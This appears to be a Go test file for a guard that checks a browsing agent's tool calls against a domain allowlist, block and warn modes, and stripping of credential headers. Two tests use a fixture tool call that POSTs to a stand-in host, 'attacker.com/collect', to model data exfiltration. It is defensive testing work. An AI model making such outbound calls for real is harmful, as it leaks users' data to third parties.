package mediator

import (
	"testing"

	"github.com/owlsentry/browserguard/pkg/httpfilter"
	"github.com/owlsentry/browserguard/pkg/intent"
)

func TestOtherToolsPassThrough(t *testing.T) {
	m := New(httpfilter.New(), ModeBlock)
	d := m.BeforeToolCall(ToolCall{Tool: "calculator"})
	if !d.Allow {
		t.Fatalf("expected unrelated tools to pass through, got %+v", d)
	}
}

func TestBlockModeDeniesDisallowedFetch(t *testing.T) {
	i := intent.Intent{TaskType: intent.TaskExtract, AllowedDomains: []string{"newegg.com"}}
	filter := httpfilter.FilterFromIntent(i)
	m := New(filter, ModeBlock)
	m.CurrentHost = "newegg.com"

	d := m.BeforeToolCall(ToolCall{Tool: "web_fetch", WebFetch: &WebFetchParams{URL: "https://attacker.com/collect", Method: "POST"}})
	if d.Allow {
		t.Fatalf("expected block mode to deny an out-of-allowlist fetch, got %+v", d)
	}
	if d.Reason == "" {
		t.Errorf("expected a human-readable reason")
	}
}

func TestWarnModeConvertsDeniesToPasses(t *testing.T) {
	i := intent.Intent{TaskType: intent.TaskExtract, AllowedDomains: []string{"newegg.com"}}
	filter := httpfilter.FilterFromIntent(i)
	m := New(filter, "WARN")
	m.CurrentHost = "newegg.com"

	d := m.BeforeToolCall(ToolCall{Tool: "web_fetch", WebFetch: &WebFetchParams{URL: "https://attacker.com/collect", Method: "POST"}})
	if !d.Allow {
		t.Fatalf("expected warn mode to convert a deny into a pass, got %+v", d)
	}
}

func TestAllowPublicStripsCredentials(t *testing.T) {
	i := intent.Intent{TaskType: intent.TaskExtract, AllowedDomains: []string{"techcrunch.com"}}
	filter := httpfilter.FilterFromIntent(i)
	m := New(filter, ModeBlock)
	m.CurrentHost = "techcrunch.com"

	d := m.BeforeToolCall(ToolCall{Tool: "web_fetch", WebFetch: &WebFetchParams{
		URL: "https://techcrunch.com/article", Method: "GET",
		Headers: map[string]string{"Authorization": "Bearer x", "Accept": "text/html"},
	}})
	if !d.Allow || d.Transform == nil {
		t.Fatalf("expected allowed-with-transform decision, got %+v", d)
	}
	if _, ok := d.Transform.WebFetch.Headers["Authorization"]; ok {
		t.Errorf("expected Authorization header to be stripped")
	}
}
